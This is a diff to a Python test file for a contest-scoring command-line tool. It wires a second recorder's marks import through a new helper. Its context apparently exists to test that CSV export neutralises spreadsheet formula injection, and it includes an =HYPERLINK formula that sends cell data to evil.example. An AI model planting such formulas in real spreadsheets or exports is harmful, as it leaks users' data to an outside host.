@@ -16,7 +16,7 @@ import openpyxl
 import pytest
 
 from db.files.csv_out import safe_text
-from tests.conftest import EXAMPLES, cli
+from tests.conftest import EXAMPLES, cli, second_entry
 
 EVIL = {
     "史红霞": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
@@ -50,7 +50,7 @@ def evil_contest(tmp_path_factory: pytest.TempPathFactory) -> Path:
         (("competitors", "import", people, "--db", db), "admin"),
         (("draw", "--event", "GJQG", "--from", e / "draw.csv", "--db", db), "admin"),
         (("marks", "import", e / "marks.csv", "--db", db), "recorder"),
-        (("marks", "import", e / "marks.csv", "--db", db), "recorder2"),
+        (("marks", "import", second_entry(e / "marks.csv", d), "--db", db), "recorder2"),
         (("times", "import", e / "times.csv", "--db", db), "chief"),
         (("theory", "import", e / "theory.csv", "--db", db), "admin"),
         (("lock", "--event", "GJQG", "--db", db), "chief"),
